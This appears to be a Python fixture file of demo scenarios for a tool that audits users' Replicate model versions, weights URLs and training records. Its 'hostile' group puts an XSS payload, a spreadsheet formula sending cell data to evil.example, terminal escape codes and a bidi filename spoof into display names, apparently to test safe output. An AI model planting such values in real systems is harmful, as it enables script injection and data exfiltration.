"""The scenarios of the demo: one user each, there to show one thing, with the finding that an audit must come to."""

from collections.abc import Mapping
from decimal import Decimal
from typing import Any, Final

import msgspec

from audit.demo.fake_replicate.faults import (
    Fault,
    ForeignNext,
    Hang,
    Odd,
    Refused,
    Reset,
    Shuffled,
    Throttled,
    Undated,
    UpperCase,
)
from audit.demo.fake_replicate.world import TRAINER, version_hash
from audit.model.codes import Note, Reason

ACCOUNT: Final = "acme-photos"
SAME_BEGINNING: Final = "50c1f7a2"
"""Two user ids begin with these digits, and an application that shortens ids gives both the same model."""


class FurtherRow(msgspec.Struct, frozen=True, kw_only=True):
    """A further row of a user."""

    status: str = "completed"
    days: float
    """How many days ago it was made."""
    recorded: int | None = None
    """The version it records, as in `Scenario`."""
    row: Mapping[str, Any] = {}
    outcome: str | None = None
    """What became of its training, where the row does not say so: the API's word, or `unknown` to Replicate. One that
    succeeded made the newest version."""


class Scenario(msgspec.Struct, frozen=True, kw_only=True):
    """A user, what Replicate has of the user's model, and the finding that an audit must come to."""

    name: str
    shows: str
    reason: Reason | None = Reason.LATEST_VERSION
    """None for a user without a row that counts, who is in no report."""
    notes: frozenset[Note] = frozenset()
    versions: tuple[float, ...] = (20,)
    """How many days ago each version was made, newest first."""
    recorded: int | str | None = 0
    """What the row says: the version at this place of `versions`, or a text in which `{0}` is that version's hash."""
    upper: bool = False
    """The row has the hash in upper case."""
    row: Mapping[str, Any] = {}
    """Columns that differ, in the row's own types. `{0}` as above, `{model}` the right id, `{name}` its end."""
    edited_days: float | None = None
    """How many days ago the row was last edited, where that was not at the end of the training."""
    status: str | None = "completed"
    """None: the user has no row but the `further` ones."""
    further: tuple[FurtherRow, ...] = ()
    exists: bool = True
    public: bool = False
    lists_versions: bool = True
    owner: str = ACCOUNT
    model_name: str | None = None
    """In place of one made from the user id."""
    faults: tuple[Fault, ...] = ()
    by_hand: bool = False
    """The newest version was pushed, no training made it."""
    weights_gone: bool = False
    """The recorded weights lead nowhere: where they are asked for, that is the finding."""
    id_begins: str = ""
    shown_name: str | None = ""
    """In place of `name`, where not ""."""
    email: str | None = ""
    """In place of one made from `name`, where not ""."""


def _notes(*notes: Note) -> frozenset[Note]:
    return frozenset(notes)


_PLAIN = (
    Scenario(name="Mara Lindqvist", shows="the usual case: one training, one version", versions=(31,)),
    Scenario(name="Tomas Herrera", shows="three trainings, the last one recorded", versions=(4, 62, 140)),
    Scenario(name="Ada Okafor", shows="one more who is up to date", versions=(9,)),
    Scenario(name="Jonas Weber", shows="one more who is up to date", versions=(77, 78)),
    Scenario(
        name="Fatima Alsayed",
        shows="up to date, and the weights are gone, which only --check-weights sees",
        versions=(2,),
        weights_gone=True,
    ),
    Scenario(name="Priya Raman", shows="more versions than a report prints", versions=tuple(range(3, 45, 3))),
    Scenario(name="Chloe Dubois", shows="three pages of versions", versions=tuple(range(1, 61))),
    Scenario(name="Liam Murphy", shows="no display name", shown_name=None),
    Scenario(name="Sofia Rossi", shows="no e-mail", email=None),
    Scenario(name="Kenji Watanabe", shows="is_test null means no test", row={"is_test": None}),
)
_OUTDATED = (
    Scenario(
        name="Noah Kim",
        shows="200 days behind",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        versions=(3, 203),
        recorded=1,
    ),
    Scenario(
        name="Elena Petrova",
        shows="one behind",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        versions=(1, 30, 60),
        recorded=1,
    ),
    Scenario(
        name="Marcus Johnson",
        shows="seven behind",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        versions=(2, 9, 16, 23, 30, 37, 44, 51),
        recorded=7,
    ),
    Scenario(
        name="Ingrid Solberg",
        shows="behind, although the row was edited today: an edit sets updated_at and changes no version",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        versions=(12, 90),
        recorded=1,
        edited_days=0.1,
    ),
    Scenario(
        name="Dmitri Volkov",
        shows="the last training succeeded, and its result was never recorded",
        reason=Reason.TRAINING_NOT_RECORDED,
        versions=(6, 48),
        recorded=1,
        further=(FurtherRow(status="training", days=6.02, outcome="succeeded"),),
    ),
    Scenario(
        name="Wanjiru Mwangi",
        shows="the newer version was pushed by hand, no training made it",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.VERSION_MADE_BY_HAND),
        versions=(5, 33),
        recorded=1,
        by_hand=True,
    ),
    Scenario(
        name="Beatriz Costa",
        shows="the API lists the versions in another order: the newest date counts",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        versions=(8, 18, 28, 38),
        recorded=1,
        faults=(Shuffled(seed=3),),
    ),
)
_RECORDED_VALUES = (
    Scenario(name="Oliver Brandt", shows="the hash in upper case", upper=True),
    Scenario(name="Yusuf Demir", shows="the hash padded with blanks", recorded="  {0} \n"),
    Scenario(
        name="Grace Achieng",
        shows="owner/name: in front of the hash",
        notes=_notes(Note.QUALIFIED_VERSION),
        recorded="{model}:{0}",
    ),
    Scenario(
        name="Hannah Fischer",
        shows="the hash of another model, and the prefix says so",
        reason=Reason.UNKNOWN_VERSION,
        notes=_notes(
            Note.QUALIFIED_VERSION,
            Note.RECORDED_MODEL_DIFFERS,
            Note.UNRECORDED_TRAINING,
            Note.WEIGHTS_URL_OF_ANOTHER_VERSION,
        ),
        recorded=f"{ACCOUNT}/house-style:{version_hash('house style')}",
    ),
    Scenario(
        name="Rafael Moreno",
        shows="a version that was deleted",
        reason=Reason.UNKNOWN_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING, Note.WEIGHTS_URL_OF_ANOTHER_VERSION),
        recorded=version_hash("deleted last spring"),
    ),
    Scenario(
        name="Amelia Clarke",
        shows="the hash of another user's model, without a prefix",
        reason=Reason.UNKNOWN_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING, Note.WEIGHTS_URL_OF_ANOTHER_VERSION),
        recorded=version_hash("Mara Lindqvist 31"),
    ),
    Scenario(
        name="Lucas Silva",
        shows="8 digits of the hash",
        reason=Reason.MALFORMED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        recorded="{0:.8}",
    ),
    Scenario(
        name="Aisha Bello",
        shows="the word latest",
        reason=Reason.MALFORMED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        recorded="latest",
    ),
    Scenario(
        name="Pierre Laurent",
        shows="the URL of a version",
        reason=Reason.MALFORMED_VERSION,
        notes=_notes(Note.UNRECORDED_TRAINING),
        recorded="https://replicate.com/{model}/versions/{0}",
    ),
    Scenario(
        name="Zofia Nowak",
        shows="no version: null",
        reason=Reason.NO_VERSION_RECORDED,
        notes=_notes(Note.UNRECORDED_TRAINING),
        recorded=None,
    ),
    Scenario(
        name="Samuel Osei",
        shows="no version: blanks",
        reason=Reason.NO_VERSION_RECORDED,
        notes=_notes(Note.UNRECORDED_TRAINING),
        recorded="   ",
    ),
    Scenario(
        name="Mei Tanaka",
        shows="no version, and that is said even where Replicate fails",
        reason=Reason.NO_VERSION_RECORDED,
        recorded=None,
        faults=(Refused(status=500),),
    ),
)
_MODEL_IDS = (
    Scenario(
        name="Isabella Conti",
        shows="no model id: null",
        reason=Reason.MISSING_MODEL_ID,
        row={"replicate_model_id": None},
    ),
    Scenario(
        name="Viktor Hansen",
        shows="no model id: blanks; wins over the version that is missing too",
        reason=Reason.MISSING_MODEL_ID,
        recorded=None,
        row={"replicate_model_id": "  "},
    ),
    Scenario(
        name="Layla Haddad",
        shows="a URL",
        reason=Reason.INVALID_MODEL_ID,
        row={"replicate_model_id": "https://replicate.com/{model}"},
    ),
    Scenario(
        name="Ethan Wright", shows="a bare name", reason=Reason.INVALID_MODEL_ID, row={"replicate_model_id": "{name}"}
    ),
    Scenario(
        name="Freya Jensen",
        shows="a newline in the name",
        reason=Reason.INVALID_MODEL_ID,
        row={"replicate_model_id": ACCOUNT + "/\n{name}"},
    ),
    Scenario(
        name="Diego Alvarez",
        shows="three parts",
        reason=Reason.INVALID_MODEL_ID,
        row={"replicate_model_id": "{model}/versions"},
    ),
    Scenario(
        name="Nadia Rahman",
        shows="a space in the name",
        reason=Reason.INVALID_MODEL_ID,
        row={"replicate_model_id": ACCOUNT + "/nadia selfie lora"},
    ),
    Scenario(
        name="Hugo Martin",
        shows="blanks and a newline around a right id do no harm",
        row={"replicate_model_id": "  {model}\n"},
    ),
)
_ON_REPLICATE = (
    Scenario(name="Clara Schmidt", shows="the model was deleted", reason=Reason.MODEL_NOT_FOUND, exists=False),
    Scenario(
        name="Owen Davies",
        shows="a private model of another account: 404, as if it were not there",
        reason=Reason.MODEL_NOT_FOUND,
        notes=_notes(Note.OWNER_DIFFERS_FROM_ACCOUNT),
        owner="acme-labs",
    ),
    Scenario(
        name="Yara Mansour", shows="a model without a version", reason=Reason.NO_VERSIONS, versions=(), recorded=None
    ),
    Scenario(
        name="Filip Novak",
        shows="a model without a version, whose list answers 404",
        reason=Reason.NO_VERSIONS,
        versions=(),
        recorded=version_hash("never arrived"),
        lists_versions=False,
    ),
    Scenario(
        name="Emma Larsson",
        shows="an official model: only its latest version is public",
        notes=_notes(Note.OWNER_DIFFERS_FROM_ACCOUNT),
        versions=(15, 80),
        owner="black-forest-labs",
        model_name="flux-dev",
        public=True,
        lists_versions=False,
    ),
    Scenario(
        name="Mateo Garcia",
        shows="a public model of somebody else",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.OWNER_DIFFERS_FROM_ACCOUNT),
        versions=(11, 70),
        recorded=1,
        owner="studio-north",
        model_name="analog-portrait",
        public=True,
    ),
    Scenario(name="Anika Sharma", shows="the API lists hashes in upper case", versions=(22, 41), faults=(UpperCase(),)),
    Scenario(
        name="Leo Fontaine",
        shows="versions without dates: the API's order counts",
        versions=(7, 21),
        faults=(Undated(),),
    ),
)
_SERVICE = (
    Scenario(name="Ruth Abrams", shows="401 for one model", reason=Reason.UNAUTHORIZED, faults=(Refused(status=401),)),
    Scenario(name="Theo Papadakis", shows="403", reason=Reason.FORBIDDEN, faults=(Refused(status=403),)),
    Scenario(name="Nina Kovacs", shows="422", reason=Reason.REJECTED, faults=(Refused(status=422),)),
    Scenario(name="Ibrahim Toure", shows="429 every time", reason=Reason.RATE_LIMITED, faults=(Throttled(wait=1),)),
    Scenario(
        name="Alice Moreau",
        shows="503 every time, with a page of the edge",
        reason=Reason.SERVER_ERROR,
        faults=(Refused(status=503, body="html"),),
    ),
    Scenario(
        name="George Ivanov", shows="502 once; the retry succeeds", faults=(Refused(status=502, body="html", times=1),)
    ),
    Scenario(name="Stella Rojas", shows="no answer", reason=Reason.TIMEOUT, faults=(Hang(),)),
    Scenario(name="Anton Kuznetsov", shows="the connection is reset", reason=Reason.NETWORK_ERROR, faults=(Reset(),)),
    Scenario(
        name="Bianca Ferrari",
        shows="200 with a page that is no JSON",
        reason=Reason.BAD_RESPONSE,
        faults=(Odd(content=b"<title>Just a moment...</title>", content_type="text/html"),),
    ),
    Scenario(
        name="Cedric Baker",
        shows="the next page is on another host: not followed, for the token would go there too",
        reason=Reason.BAD_RESPONSE,
        versions=tuple(range(1, 31)),
        faults=(ForeignNext(),),
    ),
)
_ROWS = (
    Scenario(
        name="Sarah Cohen",
        shows="shares a model with Daniel Stone, whose training came later and replaced this face",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.SHARED_MODEL),
        versions=(10, 25),
        recorded=1,
        id_begins=SAME_BEGINNING,
    ),
    Scenario(
        name="Daniel Stone",
        shows="shares a model with Sarah Cohen",
        notes=_notes(Note.SHARED_MODEL),
        versions=(10, 25),
        id_begins=SAME_BEGINNING,
    ),
    Scenario(
        name="Julia Becker",
        shows="a retraining is going on",
        notes=_notes(Note.RETRAINING_IN_PROGRESS),
        further=(FurtherRow(status="processing", days=0.02),),
    ),
    Scenario(
        name="Arjun Patel",
        shows="a later training failed",
        notes=_notes(Note.LATER_TRAINING_FAILED),
        further=(
            FurtherRow(
                status="failed", days=2, row={"failure_reason": "CUDA out of memory. Tried to allocate 2.00 GiB"}
            ),
        ),
    ),
    Scenario(
        name="Camille Petit",
        shows="older completed rows of the same user are left alone",
        notes=_notes(Note.OLDER_MODELS_HIDDEN),
        versions=(5, 50, 95),
        further=(FurtherRow(days=50, recorded=1), FurtherRow(days=95, recorded=2)),
    ),
    Scenario(
        name="Peter Vogel",
        shows="a newer test row does not count",
        versions=(3, 30),
        recorded=0,
        further=(FurtherRow(days=1, recorded=1, row={"is_test": True}),),
    ),
    Scenario(
        name="Lena Hoffmann",
        shows="an old row without updated_at, which a naive ORDER BY would put first",
        notes=_notes(Note.UNDATED_ROW, Note.OLDER_MODELS_HIDDEN),
        versions=(14, 110),
        further=(FurtherRow(days=110, recorded=1, row={"updated_at": None}),),
    ),
    Scenario(
        name="Omar Farouk",
        shows="the only row has no date at all",
        notes=_notes(Note.UNDATED_ROW),
        row={"updated_at": None, "completed_at": None, "created_at": None},
    ),
    Scenario(
        name="Lena Vogel",
        shows="the recorded trigger word is not the one that the training used",
        notes=_notes(Note.TRIGGER_WORD_DIFFERS),
        row={"trigger_word": "LENA"},
    ),
    Scenario(
        name="Eva Horvath",
        shows="no trigger word: the likeness will not show, though the version is right",
        notes=_notes(Note.MISSING_TRIGGER_WORD),
        row={"trigger_word": None},
    ),
    Scenario(
        name="Simon Keller",
        shows="a LoRA scale far from 1",
        notes=_notes(Note.UNUSUAL_LORA_SCALE),
        row={"lora_scale": Decimal("2.5")},
    ),
    Scenario(
        name="Maya Greenberg",
        shows="no weights URL, while nearly everybody has one",
        reason=Reason.WRONG_WEIGHTS,
        notes=_notes(Note.MISSING_WEIGHTS_URL),
        row={"lora_weights_url": None},
    ),
    Scenario(
        name="Victor Almeida",
        shows="a weights URL guessed from the hash; and one behind",
        reason=Reason.OUTDATED_VERSION,
        notes=_notes(Note.GUESSED_WEIGHTS_URL, Note.UNRECORDED_TRAINING),
        versions=(6, 66),
        recorded=1,
        row={"lora_weights_url": "https://replicate.delivery/pbxt/{1}/flux-lora.tar"},
    ),
)
_UNFINISHED = (
    Scenario(
        name="Nia Brooks",
        shows="the only row says training for ever and names no training; the model has a version made since",
        reason=Reason.TRAINING_NOT_RECORDED,
        versions=(3,),
        recorded=None,
        status="training",
        row={"training_id": None, "lora_weights_url": None},
    ),
    Scenario(
        name="Malik Stewart",
        shows="the retraining failed, and nobody wrote it down: the user waits",
        reason=Reason.FAILURE_NOT_RECORDED,
        versions=(35,),
        further=(FurtherRow(status="training", days=9, outcome="failed"),),
    ),
    Scenario(
        name="Greta Olsen",
        shows="a retraining wiped the only row and then failed; Replicate has the old versions",
        reason=Reason.VERSION_LOST,
        versions=(40, 90),
        status=None,
        further=(FurtherRow(status="failed", days=4, row={"failure_reason": "The archive holds no images"}),),
    ),
    Scenario(
        name="Tariq Mansouri",
        shows="the newest row names a training that Replicate does not know",
        reason=Reason.TRAINING_NOT_FOUND,
        versions=(28,),
        further=(FurtherRow(status="training", days=8, outcome="unknown"),),
    ),
    Scenario(
        name="Joana Lima",
        shows="the trainer in the model's place",
        reason=Reason.TRAINER_RECORDED,
        row={"replicate_model_id": TRAINER},
    ),
    Scenario(
        name="Sven Dahl",
        shows="the right version with the weights of the training before",
        reason=Reason.WRONG_WEIGHTS,
        notes=_notes(Note.WEIGHTS_URL_OF_ANOTHER_VERSION),
        versions=(12, 70),
        row={"lora_weights_url": "{weights[1]}"},
    ),
)
_HOSTILE = (
    Scenario(name="Mallory Html", shows="HTML in a name", shown_name="<img src=x onerror=alert(1)>"),
    Scenario(
        name="Mallory Formula",
        shows="a formula in a name",
        shown_name='=HYPERLINK("https://evil.example/?"&A1,"click me")',
    ),
    Scenario(
        name="Mallory Ansi", shows="terminal escapes in a name", shown_name="\x1b[2J\x1b[31mall is well\x1b[0m\x07"
    ),
    Scenario(name="Mallory Bidi", shows="a bidirectional override in a name", shown_name="\u202etxt.exe\u202c Mallory"),
)
_IN_NO_REPORT = (
    Scenario(name="Paul Nguyen", shows="signed up, trained nothing", reason=None, status=None, exists=False),
    Scenario(
        name="Rosa Jimenez",
        shows="the first training waits",
        reason=None,
        status="pending",
        exists=False,
        recorded=None,
    ),
    Scenario(
        name="Karim Aziz",
        shows="the only training failed",
        reason=None,
        status="failed",
        exists=False,
        recorded=None,
        row={"failure_reason": "The archive holds no images"},
    ),
    Scenario(
        name="Helena Costa", shows="a row made by hand says Completed, and is missed", reason=None, status="Completed"
    ),
    Scenario(
        name="Ian Fraser", shows="a row made by hand says succeeded, and is missed", reason=None, status="succeeded"
    ),
    Scenario(name="Test Account", shows="only a test row", reason=None, row={"is_test": True}),
)
SCENARIOS: Final = (
    *_PLAIN,
    *_OUTDATED,
    *_RECORDED_VALUES,
    *_MODEL_IDS,
    *_ON_REPLICATE,
    *_SERVICE,
    *_ROWS,
    *_UNFINISHED,
    *_HOSTILE,
    *_IN_NO_REPORT,
)
